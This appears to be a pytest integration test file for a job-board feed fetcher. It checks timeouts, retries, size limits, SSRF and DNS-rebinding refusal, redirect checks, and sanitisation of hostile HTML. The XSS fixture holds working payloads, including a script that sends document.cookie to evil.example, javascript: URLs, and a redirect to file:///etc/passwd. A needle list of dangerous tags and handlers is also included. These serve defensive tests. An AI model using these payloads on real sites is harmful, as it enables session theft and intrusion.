"""Hostile servers and payloads over real local HTTP (pytest-httpserver)."""

import json
import time

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Response

from jobs import http
from jobs.connectors import FeedError, fetch_feed

pytestmark = pytest.mark.integration

BOARD_PATH = "/v1/boards/acme/jobs"
GOOD_BOARD = {"jobs": [{"id": 1, "title": "Data Engineer", "company_name": "Acme AI", "content": ""}]}


@pytest.fixture
def fast_retries(settings, monkeypatch):
    """Retries allowed, tiny backoff; sleeps are real but recorded."""
    settings.JOBS_HTTP_RETRIES = 3
    settings.JOBS_HTTP_BACKOFF = 0.01
    settings.JOBS_HTTP_RETRY_BUDGET = 10
    slept: list[float] = []

    def sleep(seconds: float) -> None:
        slept.append(seconds)
        time.sleep(seconds)

    monkeypatch.setattr(http, "sleep", sleep)
    return slept


@pytest.fixture
def slow_server():
    """A threaded server of its own, so a handler still sleeping cannot delay other tests' requests."""
    server = HTTPServer(host="127.0.0.1", port=0, threaded=True)
    server.start()
    yield server
    server.clear()
    server.stop()


def fetch(httpserver):
    return fetch_feed(kind="greenhouse", board="acme", base_url=httpserver.url_for("/"))


def test_slow_server_hits_the_read_timeout(slow_server, settings):
    settings.JOBS_HTTP_READ_TIMEOUT = 0.3
    settings.JOBS_HTTP_RETRIES = 0

    def slow(request):
        time.sleep(1.5)
        return Response(json.dumps(GOOD_BOARD), content_type="application/json")

    slow_server.expect_request(BOARD_PATH).respond_with_handler(slow)
    with pytest.raises(FeedError, match=r"^read timeout after 0.3 s from http://"):
        fetch(slow_server)


def test_timeouts_are_retried_then_give_up(slow_server, settings, fast_retries):
    settings.JOBS_HTTP_READ_TIMEOUT = 0.2
    settings.JOBS_HTTP_RETRIES = 1

    def slow(request):
        time.sleep(0.6)
        return Response("{}", content_type="application/json")

    slow_server.expect_request(BOARD_PATH).respond_with_handler(slow)
    with pytest.raises(FeedError, match=r"read timeout .* \(gave up after 2 attempts\)"):
        fetch(slow_server)
    assert len(fast_retries) == 1


def test_429_honours_retry_after_then_succeeds(httpserver, fast_retries):
    httpserver.expect_oneshot_request(BOARD_PATH).respond_with_data(
        "slow down", status=429, headers={"Retry-After": "1"}
    )
    httpserver.expect_request(BOARD_PATH).respond_with_json(GOOD_BOARD)
    result = fetch(httpserver)
    assert [p.title for p in result.payloads] == ["Data Engineer"]
    assert fast_retries == [1.0]
    assert len(httpserver.log) == 2


def test_429_with_a_retry_after_beyond_the_budget_fails_at_once(httpserver, fast_retries):
    httpserver.expect_request(BOARD_PATH).respond_with_data("", status=429, headers={"Retry-After": "3600"})
    with pytest.raises(FeedError, match=r"HTTP 429 .*retry in 3600 s exceeds the 10 s retry budget"):
        fetch(httpserver)
    assert fast_retries == []


def test_5xx_is_retried_with_backoff_then_succeeds(httpserver, fast_retries):
    httpserver.expect_oneshot_request(BOARD_PATH).respond_with_data("oops", status=503)
    httpserver.expect_oneshot_request(BOARD_PATH).respond_with_data("oops", status=502)
    httpserver.expect_request(BOARD_PATH).respond_with_json(GOOD_BOARD)
    assert len(fetch(httpserver).payloads) == 1
    assert len(fast_retries) == 2
    assert all(0.005 <= delay <= 0.04 for delay in fast_retries)


def test_5xx_every_time_gives_up_after_the_retries(httpserver, fast_retries):
    httpserver.expect_request(BOARD_PATH).respond_with_json({"error": "Internal error"}, status=500)
    with pytest.raises(FeedError, match=r"^HTTP 500 from .*: Internal error \(gave up after 4 attempts\)$"):
        fetch(httpserver)
    assert len(httpserver.log) == 4


def test_4xx_is_not_retried(httpserver, fast_retries):
    httpserver.expect_request(BOARD_PATH).respond_with_json({"status": 404, "error": "Job not found"}, status=404)
    with pytest.raises(FeedError, match=r"HTTP 404 .*Job not found"):
        fetch(httpserver)
    assert len(httpserver.log) == 1 and fast_retries == []


def test_a_200_mb_streamed_response_is_cut_off(httpserver, settings):
    settings.JOBS_HTTP_MAX_BYTES = 1024 * 1024
    chunk = b" " * 65536
    sent = []

    def huge(request):
        def body():
            yield b'{"jobs": ['
            for _ in range(200 * 16):  # 200 MB, produced only as fast as it is read
                sent.append(len(chunk))
                yield chunk
            yield b"]}"

        return Response(body(), content_type="application/json")

    httpserver.expect_request(BOARD_PATH).respond_with_handler(huge)
    with pytest.raises(FeedError, match=r"^response larger than 1 MB from http://.*, cut off$"):
        fetch(httpserver)
    assert sum(sent) < 50 * 1024 * 1024


def test_a_declared_oversize_body_is_refused_before_reading(httpserver, settings):
    settings.JOBS_HTTP_MAX_BYTES = 1000
    httpserver.expect_request(BOARD_PATH).respond_with_data("x" * 5000, content_type="application/json")
    with pytest.raises(FeedError, match=r"response larger than 1000 bytes .*\(declared 4.9 KB\)"):
        fetch(httpserver)


def test_a_feed_on_a_private_address_is_refused_without_a_request(httpserver, settings):
    settings.JOBS_ALLOW_PRIVATE_FEEDS = False
    httpserver.expect_request(BOARD_PATH).respond_with_json(GOOD_BOARD)
    with pytest.raises(FeedError, match=r"refused feed URL .*resolves to non-public address (127\.0\.0\.1|::1)$"):
        fetch(httpserver)
    with pytest.raises(FeedError, match="non-public address"):
        fetch_feed(kind="jsonld", board=httpserver.url_for("/careers"))
    assert httpserver.log == []


def test_a_name_that_resolves_public_then_connects_private_is_refused(httpserver, settings, monkeypatch):
    """DNS rebinding: the check sees a public address, the connection reaches loopback."""
    settings.JOBS_ALLOW_PRIVATE_FEEDS = False
    monkeypatch.setattr(http, "_resolve", lambda host, port: ["93.184.216.34"])
    httpserver.expect_request(BOARD_PATH).respond_with_json(GOOD_BOARD)
    with pytest.raises(FeedError, match=r"^refused connection to localhost: connected to non-public address"):
        fetch(httpserver)
    assert httpserver.log == []


def test_redirects_are_followed_and_each_hop_is_checked(httpserver, settings):
    httpserver.expect_request(BOARD_PATH).respond_with_data(
        "", status=302, headers={"Location": "/v1/boards/acme-new/jobs?content=true"}
    )
    httpserver.expect_request("/v1/boards/acme-new/jobs").respond_with_json(GOOD_BOARD)
    assert len(fetch(httpserver).payloads) == 1
    # a redirect to a non-http scheme is refused
    httpserver.clear()
    httpserver.expect_request(BOARD_PATH).respond_with_data("", status=301, headers={"Location": "file:///etc/passwd"})
    with pytest.raises(FeedError, match="only http and https"):
        fetch(httpserver)


def test_connection_refused_is_a_clear_reason(settings):
    settings.JOBS_HTTP_RETRIES = 0
    with pytest.raises(FeedError, match=r"^cannot connect to http://127\.0\.0\.1:9/"):
        fetch_feed(kind="lever", board="x", base_url="http://127.0.0.1:9")


XSS_TITLE = '<img src=x onerror="alert(1)">Senior <script>alert(document.cookie)</script>ML Engineer'
XSS_HTML = (
    '<p onmouseover="steal()">About us</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
    '<iframe src="javascript:alert(1)"></iframe><a href="javascript:alert(1)">apply</a>'
    '<a href=" JAVASCRIPT:alert(1)">x</a><style>*{display:none}</style>'
    '<a href="https://example.com/apply" onclick="x()">ok</a><form action="https://evil"><input></form>'
    "<svg/onload=alert(1)>"  # unclosed: everything after it is dropped with it
)


def assert_inert(payload):
    assert "<" not in payload.title and "script" not in payload.title.lower()
    assert payload.title.endswith("ML Engineer")
    html = payload.description_html.lower()
    for needle in ("<script", "<iframe", "<style", "<svg", "<form", "<input", "<img", "javascript:",
                   "onerror", "onload", "onclick", "onmouseover", "document.cookie"):  # fmt: skip
        assert needle not in html, needle
    assert '<a href="https://example.com/apply" rel="nofollow noopener">ok</a>' in payload.description_html
    assert "document.cookie" not in payload.description_text


def test_xss_in_greenhouse_titles_and_escaped_content_is_inert(httpserver):
    import html as html_module

    board = {"jobs": [{"id": 7, "title": XSS_TITLE, "content": html_module.escape(XSS_HTML), "company_name": "A"}]}
    httpserver.expect_request(BOARD_PATH).respond_with_json(board)
    assert_inert(fetch(httpserver).payloads[0])


def test_xss_in_lever_and_ashby_is_inert(httpserver):
    httpserver.expect_request("/v0/postings/x").respond_with_json(
        [{"id": "a", "text": XSS_TITLE, "description": XSS_HTML, "hostedUrl": "javascript:alert(1)",
          "applyUrl": "javascript:alert(1)", "lists": [{"text": "<b onclick=x>Do</b>", "content": "<li>ok</li>"}]}]
    )  # fmt: skip
    httpserver.expect_request("/posting-api/job-board/x").respond_with_json(
        {"jobs": [{"id": "b", "title": XSS_TITLE, "descriptionHtml": XSS_HTML, "isListed": True}]}
    )
    base = httpserver.url_for("/")
    posting = fetch_feed(kind="lever", board="x", base_url=base).payloads[0]
    assert_inert(posting)
    assert posting.url == "https://jobs.lever.co/x/a" and posting.apply_url.startswith("https://")
    assert_inert(fetch_feed(kind="ashby", board="x", base_url=base).payloads[0])


def test_xss_in_jsonld_is_inert(httpserver):
    item = {"@context": "https://schema.org", "@type": "JobPosting", "title": XSS_TITLE, "description": XSS_HTML,
            "identifier": "x1", "datePosted": "2026-11-01", "url": "javascript:alert(1)"}  # fmt: skip
    # Pages escape "</" inside JSON-LD so the description cannot close the script element.
    block = json.dumps(item).replace("</", "<\\/")
    page = f'<script type="application/ld+json">{block}</script>'
    httpserver.expect_request("/careers").respond_with_data(page, content_type="text/html")
    payload = fetch_feed(kind="jsonld", board=httpserver.url_for("/careers")).payloads[0]
    assert_inert(payload)
    assert payload.url.startswith("http://")  # the page, not the javascript: URL


def test_jsonld_block_broken_by_a_script_end_tag_is_an_invalid_record(httpserver):
    item = {"@type": "JobPosting", "title": "Data Engineer", "description": "<script>x()</script>"}
    page = f'<script type="application/ld+json">{json.dumps(item)}</script><p>rest</p>'
    httpserver.expect_request("/careers").respond_with_data(page, content_type="text/html")
    result = fetch_feed(kind="jsonld", board=httpserver.url_for("/careers"))
    assert result.payloads == []
    assert result.invalid and "malformed JSON-LD" in result.invalid[0][1]
